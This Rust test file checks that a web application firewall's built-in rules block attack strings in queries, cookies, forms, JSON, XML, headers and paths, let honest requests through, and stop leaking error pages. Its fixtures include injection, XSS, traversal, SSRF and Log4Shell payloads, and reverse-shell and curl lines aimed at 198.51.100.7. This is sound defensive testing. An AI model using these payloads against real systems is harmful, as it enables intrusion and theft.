//! The built-in rules against attacks of every family in every place, and against what honest
//! people send.

use std::net::{IpAddr, Ipv4Addr};

use fosse_builtin_rules::{BUILTIN, BUILTIN_NAME};
use fosse_seclang::{Arena, Bundle, Environment, NoStore, Now, Outcome, Ruleset, Schedule, Scratch, Transaction};

fn rules() -> Ruleset {
    let mut bundle = Bundle::new();
    bundle.insert(BUILTIN_NAME, BUILTIN);
    Ruleset::compile(&bundle, BUILTIN_NAME)
        .unwrap_or_else(|errors| panic!("{}", errors.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")))
}

struct Request<'a> {
    method: &'a str,
    uri: String,
    headers: Vec<(&'a str, String)>,
    body: String,
}

impl Request<'_> {
    fn get(uri: impl Into<String>) -> Self {
        let headers = vec![
            ("Host", "www.example.com".into()),
            ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0".into()),
        ];
        Request { method: "GET", uri: uri.into(), headers, body: String::new() }
    }

    fn post(kind: &str, body: impl Into<String>) -> Self {
        let mut request = Self::get("/submit");
        request.method = "POST";
        request.body = body.into();
        request.headers.push(("Content-Type", kind.into()));
        request.headers.push(("Content-Length", request.body.len().to_string()));
        request
    }

    fn header(mut self, name: &'static str, value: &str) -> Self {
        self.headers.push((name, value.into()));
        self
    }
}

/// Returns whether the request is denied, and the rules that matched.
fn judge(rules: &Ruleset, request: &Request<'_>) -> (bool, Vec<String>) {
    let mut scratch = Scratch::default();
    let mut transaction = Transaction::new(rules, Arena::default(), Now { seconds: 1_700_000_000, elapsed_micros: 0 });
    let (mut schedule, mut store) = (|| Schedule::Go, NoStore);
    let mut env = Environment { scratch: &mut scratch, schedule: &mut schedule, store: &mut store };
    let ip = IpAddr::V4(Ipv4Addr::new(192, 0, 2, 7));
    transaction.connection(ip, 40_000, IpAddr::V4(Ipv4Addr::LOCALHOST), 80);
    let line = format!("{} {} HTTP/1.1", request.method, request.uri);
    transaction.request_line(line.as_bytes(), request.method.as_bytes(), request.uri.as_bytes(), b"HTTP/1.1");
    for (name, value) in &request.headers {
        transaction.header(name.as_bytes(), value.as_bytes());
    }
    let mut outcome = transaction.phase1(&mut env);
    if outcome == Outcome::Continue {
        transaction.request_body(request.body.as_bytes());
        outcome = transaction.phase2(&mut env);
    }
    let lines = transaction.matches().map(|m| String::from_utf8_lossy(&m.log_line()).into_owned()).collect();
    (outcome != Outcome::Continue, lines)
}

/// Percent-encoded as browsers do it (RFC 3986, section 2.3).
fn encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

fn json(text: &str) -> String {
    let escaped: String = text
        .chars()
        .map(
            |c| if (c as u32) < 0x20 || c == '"' || c == '\\' { format!("\\u{:04x}", c as u32) } else { c.to_string() },
        )
        .collect();
    format!("{{\"user\":{{\"name\":\"{escaped}\"}}}}")
}

const MULTIPART: &str = "multipart/form-data; boundary=XbX";

fn multipart(text: &str) -> String {
    format!("--XbX\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{text}\r\n--XbX--\r\n")
}

/// One attack in each place a value can come from.
fn everywhere(attack: &str) -> Vec<(&'static str, Request<'static>)> {
    let xml: String = attack.replace('&', "&amp;").replace('<', "&lt;");
    vec![
        ("query", Request::get(format!("/?q={}", encode(attack)))),
        ("cookie", Request::get("/").header("Cookie", &format!("a={}", encode(attack)))),
        ("form", Request::post("application/x-www-form-urlencoded", format!("a=1&b={}", encode(attack)))),
        ("multipart", Request::post(MULTIPART, multipart(attack))),
        ("json", Request::post("application/json", json(attack))),
        ("xml", Request::post("text/xml", format!("<?xml version=\"1.0\"?><r><v>{xml}</v></r>"))),
    ]
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table of cases")]
fn attacks_of_every_family_are_denied_in_every_place() {
    let rules = rules();
    let attacks = [
        "1' OR '1'='1' -- ",
        "1 UNION SELECT username, password FROM users",
        "'; DROP TABLE users; --",
        "1 AND SLEEP(5)",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=alert(document.cookie)>",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "; cat /etc/hosts",
        "$(curl http://198.51.100.7/x)",
        "| nc -e /bin/sh 198.51.100.7 4444",
        "${jndi:ldap://198.51.100.7/a}",
        "{{7*7}}",
        "<?php system($_GET['c']); ?>",
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:8500/v1/kv",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "http://[::1]/admin",
        "http://2130706433/",
        "http://198.51.100.7/shell.txt?",
        "php://filter/convert.base64-encode/resource=index.php",
        "phar://uploads/a.jpg",
        "phpinfo()",
        "<%= system('id') %>",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "class.module.classLoader.resources.context.parent.pipeline",
        "__proto__[admin]=1",
        "this.constructor.constructor('return process')()",
        "{\"$ne\":null}",
        "' || this.password.match(/.*/)//",
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "javascript:alert(document.cookie)",
        "; ping -c 10 198.51.100.7",
        "\nuname -a",
        "a;${IFS}cat${IFS}/etc/hosts",
        "; w''get http://198.51.100.7/",
        "| whoami",
        "....//....//etc/passwd",
        "a@b.example\r\nBcc: c@d.example",
        "a%0d%0aLocation: http://198.51.100.7/",
    ];
    let mut missed = Vec::new();
    for attack in attacks {
        for (place, request) in everywhere(attack) {
            if !judge(&rules, &request).0 {
                missed.push(format!("{place}: {attack}"));
            }
        }
    }
    assert!(missed.is_empty(), "not denied:\n{}", missed.join("\n"));
}

/// The places that applications read less often: paths, the names of arguments, and headers of all
/// kinds.
fn elsewhere(attack: &str) -> Vec<(&'static str, Request<'static>)> {
    vec![
        ("path", Request::get(format!("/files/{}", encode(attack)))),
        ("name", Request::get(format!("/?{}=1", encode(attack)))),
        ("header", Request::get("/").header("X-Client-Info", attack)),
        ("referer", Request::get("/").header("Referer", &format!("https://www.example.org/?q={}", encode(attack)))),
        ("user agent", Request::get("/").header("User-Agent", attack)),
    ]
}

#[test]
fn attacks_are_denied_where_few_look_for_them() {
    let rules = rules();
    let attacks = [
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "; cat /etc/hosts",
        "() { :; }; /bin/bash -c id",
        "${jndi:ldap://198.51.100.7/a}",
        "${${lower:j}ndi:rmi://198.51.100.7/a}",
        "{{7*7}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "require('child_process').exec('id')",
        "php://filter/convert.base64-encode/resource=index.php",
        "*)(objectClass=*",
        "{\"$gt\":\"\"}",
        "http://169.254.169.254/latest/meta-data/",
        "java.lang.Runtime.getRuntime().exec('id')",
    ];
    let mut missed = Vec::new();
    for attack in attacks {
        for (place, request) in elsewhere(attack) {
            // A path ends at its question mark, and dot segments never come that far.
            if !judge(&rules, &request).0 {
                missed.push(format!("{place}: {attack}"));
            }
        }
    }
    assert!(missed.is_empty(), "not denied:\n{}", missed.join("\n"));
}

#[test]
fn what_programmers_write_passes() {
    let rules = rules();
    let texts = [
        "Run `npm install` and then `npm start`; see README.md",
        "The `id` field is missing in the answer",
        "{{ user.name }} ordered {{ order.total | money }}",
        "${name} is ${age} years old; #{order.id}: <%- title %>",
        "a:hover { color: red; } .b > .c + .d ~ .e { margin: 0 auto !important }",
        "SELECT is a keyword; so are INSERT, UPDATE and DELETE",
        "C:\\Users\\Anna\\Documents\\R&D\\report (final).docx",
        "\\\\server\\R&D\\team",
        "Which operating system(s)? I run two systems (v2);",
        "JavaScript: The Good Parts (O'Reilly, 2008)",
        "name|id|price",
        "a;\"\";b;\"\"",
        "Name & ID",
        "10.0.0.1/24, 192.168.1.0/16",
        "We can't sleep at night; update us at once, or else drop by.",
        "[link](https://www.example.org/a_(b)) and ![image](./images/../logo.png)",
        "f(x)(y), (a)(b), :-) (-:",
        "The cat; dog food & cat litter | bird seed",
        "rock 'n' roll & r'n'b",
        "Products?$filter=Price gt 10 and Name eq 'Chair'",
        "Subject: your order\r\nHello,\r\nto: be delivered",
        "order by phone",
    ];
    let mut wrong = Vec::new();
    for text in texts {
        for (place, request) in everywhere(text) {
            let (denied, lines) = judge(&rules, &request);
            if denied {
                wrong.push(format!("{place}: {text}\n  {}", lines.join("\n  ")));
            }
        }
    }
    assert!(wrong.is_empty(), "denied:\n{}", wrong.join("\n"));
}

#[test]
fn attacks_that_have_one_place_are_denied_there() {
    let rules = rules();
    let requests = [
        ("scanner", Request::get("/").header("User-Agent", "sqlmap/1.7")),
        ("repository", Request::get("/.git/config")),
        ("environment", Request::get("/app/.env")),
        ("encoded path", Request::get("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd")),
        ("custom header", Request::get("/").header("X-Api-Version", "1' OR '1'='1' -- ")),
        ("referer", Request::get("/").header("Referer", "<script>alert(1)</script>")),
        ("shellshock", Request::get("/").header("X-Probe", "() { :; }; /bin/bash -c id")),
        ("nosql query", Request::get("/login?user=admin&pass[$ne]=x")),
        ("nosql json", Request::post("application/json", "{\"user\":\"a\",\"pass\":{\"$gt\":\"\"}}")),
        ("ldap", Request::get(format!("/?u={}", encode("*)(uid=*))(|(uid=*")))),
        ("mail", Request::post("application/x-www-form-urlencoded", format!("from={}", encode("a@b.c\r\nBcc: d@e.f")))),
        ("splitting", Request::get(format!("/?to={}", encode("x\r\nSet-Cookie: a=b")))),
        ("prototype", Request::post("application/json", "{\"__proto__\":{\"admin\":true}}")),
        ("serialised", Request::get("/?o=rO0ABXNyABdqYXZhLnV0aWw")),
        ("base64", Request::get("/?v=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
        ("base64 sql", Request::get("/?v=MScgdW5pb24gc2VsZWN0IHBhc3N3b3JkIGZyb20gdXNlcnM=")),
        ("base64 command", Request::get("/?v=OyBjYXQgL2V0Yy9wYXNzd2Q=")),
        ("base64 sql alone", Request::get("/?v=MScgb3IgJzEnPScx")),
        ("base64 template", Request::get("/?v=e3snJy5fX2NsYXNzX18uX19tcm9fX1sxXX19")),
        ("base64 header", Request::get("/").header("X-Token", "JHtqbmRpOmxkYXA6Ly8xOTguNTEuMTAwLjcvYX0=")),
        ("attribute", Request::post("text/xml", "<r a=\"1' UNION SELECT password FROM users--\"/>")),
        ("graphql", Request::post("application/json", "{\"query\":\"{ user(id: \\\"1' OR '1'='1\\\") { id } }\"}")),
        ("nested json", Request::post("application/json", "{\"a\":[{\"b\":{\"c\":[\"x\",\"../../../etc/passwd\"]}}]}")),
        ("nosql cookie", Request::get("/").header("Cookie", "user=%7B%22%24ne%22%3Anull%7D")),
        ("entity", Request::post("text/xml", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")),
        ("broken json", Request::post("application/json", "{\"a\":")),
        ("ebcdic", Request::post("application/x-www-form-urlencoded; charset=ibm037", "%89%84=%7d%40%96%99%40")),
        ("utf-7", Request::post("application/x-www-form-urlencoded; charset=\"UTF-7\"", "a=+ADw-script+AD4-")),
        ("utf-16 json", Request::post("application/json;charset=utf-16le", "{}")),
        ("argument name", Request::get(format!("/?{}=1", encode("<script>alert(1)</script>")))),
    ];
    let missed: Vec<_> = requests.iter().filter(|(_, r)| !judge(&rules, r).0).map(|(name, _)| *name).collect();
    assert!(missed.is_empty(), "not denied: {missed:?}");
}

#[test]
fn honest_requests_pass() {
    let rules = rules();
    let prose = "Dear team, I can't select the union members from the list; please update it and delete the old one. \
        Is 5 > 3 or not? We'd like to order 2 tables & 4 chairs (see page 7). Thanks -- O'Brien";
    let code = "for (i = 0; i < 10; i++) { sum += a[i]; } // a comment";
    let requests = [
        ("home", Request::get("/")),
        ("search", Request::get("/search?q=how+to+select+a+union+in+california&page=2&sort=-date")),
        ("name", Request::get("/?name=O%27Brien&city=L%27Aquila")),
        ("quotes", Request::get(format!("/?q={}", encode("the \"best\" of 'rock & roll' <3")))),
        ("link", Request::get(format!("/go?url={}", encode("https://www.example.org/a/b?x=1&y=2#top")))),
        ("relative", Request::get("/docs/?next=../guide/intro.html")),
        ("redirect", Request::get("/").header("Referer", "https://www.google.com/search?q=sql+injection+tutorial")),
        ("analytics", Request::get("/").header("Cookie", "_ga=GA1.2.1234567890.1600000000; _gid=GA1.2.1.2; _fbp=fb.1.1600000000.123; session=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoxfQ.c2lnbmF0dXJl")),
        ("prose form", Request::post("application/x-www-form-urlencoded", format!("subject=hello&message={}", encode(prose)))),
        ("prose json", Request::post("application/json", json(prose))),
        ("code json", Request::post("application/json", json(code))),
        ("graphql", Request::post("application/json", "{\"query\":\"query($id: ID!) { user(id: $id) { name, orders(first: 10) { edges { node { total } } } } }\",\"variables\":{\"id\":\"42\"}}")),
        ("json rpc", Request::post("application/json", "{\"jsonrpc\":\"2.0\",\"method\":\"subtract\",\"params\":[42,23],\"id\":1}")),
        ("xml rpc", Request::post("text/xml", "<?xml version=\"1.0\"?><methodCall><methodName>examples.getStateName</methodName><params><param><value><i4>41</i4></value></param></params></methodCall>")),
        ("upload", Request::post(MULTIPART, "--XbX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"my notes (1).txt\"\r\nContent-Type: text/plain\r\n\r\nselect your seats\r\n--XbX--\r\n")),
        ("picture", Request::post("application/json", "{\"image\":\"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\"}")),
        ("phone", Request::get("/?phone=%2B49+(0)30+123456&ext=%23")),
        ("maths", Request::get(format!("/?expr={}", encode("(a+b)*c = 12 || d")))),
        ("percent", Request::get("/?discount=50%25&tag=%23sale")),
        ("time", Request::get("/api/items?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00%2B01:00")),
        ("user agent", Request::get("/").header("X-Requested-With", "XMLHttpRequest")),
        ("password", Request::post("application/x-www-form-urlencoded", format!("user=anna&password={}", encode("c0rrect;horse&battery=staple!")))),
        ("address", Request::post("application/x-www-form-urlencoded", format!("a={}", encode("12 Drop Lane, apt. 4; ring twice, please")))),
        ("mail text", Request::post("application/x-www-form-urlencoded", format!("text={}", encode("Hello,\r\nto: whom it may concern\r\nRegards")))),
    ];
    let mut wrong = Vec::new();
    for (name, request) in &requests {
        let (denied, lines) = judge(&rules, request);
        if denied {
            wrong.push(format!("{name}:\n  {}", lines.join("\n  ")));
        }
    }
    assert!(wrong.is_empty(), "denied:\n{}", wrong.join("\n"));
}

/// Returns whether a response of this type is denied.
fn keeps_inside(rules: &Ruleset, kind: &str, body: &str) -> bool {
    let mut scratch = Scratch::default();
    let mut transaction = Transaction::new(rules, Arena::default(), Now::default());
    let (mut schedule, mut store) = (|| Schedule::Go, NoStore);
    let mut env = Environment { scratch: &mut scratch, schedule: &mut schedule, store: &mut store };
    transaction.request_line(b"GET / HTTP/1.1", b"GET", b"/", b"HTTP/1.1");
    transaction.header(b"Host", b"www.example.com");
    assert_eq!(transaction.phase1(&mut env), Outcome::Continue);
    assert_eq!(transaction.phase2(&mut env), Outcome::Continue);
    transaction.response(200, b"HTTP/1.1");
    transaction.response_header(b"Content-Type", kind.as_bytes());
    assert_eq!(transaction.phase3(&mut env), Outcome::Continue);
    transaction.response_body(body.as_bytes());
    transaction.phase4(&mut env) != Outcome::Continue
}

#[test]
fn what_responses_must_not_tell_stays_inside() {
    let rules = rules();
    for leak in [
        "<b>You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server",
        "Unclosed quotation mark after the character string 'x'.",
        "ORA-00933: SQL command not properly ended",
        "PDOException: SQLSTATE[42000]: Syntax error",
        "Warning: pg_query(): Query failed: ERROR:  syntax error at or near \"'\" in /srv/x.php",
        "SQL error: near \"x'\": syntax error",
        "org.postgresql.util.PSQLException: ERROR",
        "<html><?php include 'db.php'; ?>",
        "<%@ page import=\"java.util.*\" %>",
        "#!/usr/bin/perl\nuse DBI;",
        "<html><head><title>Index of /backup</title>",
        "<title>Directory listing for /</title>",
        "<A HREF=\"/\">[To Parent Directory]</A>",
        "at com.example.shop.Cart.total(Cart.java:117)",
        "Traceback (most recent call last):\n  File \"/srv/app.py\"",
        "<b>Fatal error</b>: Uncaught Error in /srv/a.php on line <b>12</b>",
        "<title>Server Error in '/' Application.</title>",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:",
    ] {
        for kind in ["text/html; charset=utf-8", "text/plain", "application/json"] {
            assert!(keeps_inside(&rules, kind, leak), "{kind}: {leak}");
        }
        assert!(!keeps_inside(&rules, "image/png", leak), "of a type that is not looked at");
    }
}

#[test]
fn pages_that_people_write_are_let_out() {
    let rules = rules();
    for page in [
        "<html><body><h1>An introduction to SQL</h1><p>An error in your query? Check the syntax near the end of it.</p>",
        "<p>PHP code begins with &lt;?php and ends with ?&gt;.</p>",
        "<?xml version=\"1.0\"?><feed><title>Index of names</title></feed>",
        "<title>Index of authors</title><h1>Our index</h1>",
        "<p>Meet us at example.org (Java user group), at 7 pm.</p>",
        "{\"status\":\"error\",\"message\":\"Unknown product\",\"line\":3}",
        "The traceback of the parcel: most recent call last Monday.",
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
        "-----BEGIN PUBLIC KEY-----",
        "<b>Warning</b>: the stairs are slippery.",
        "root: the part of a plant below ground; 0:0 after extra time",
    ] {
        assert!(!keeps_inside(&rules, "text/html", page), "{page}");
    }
}
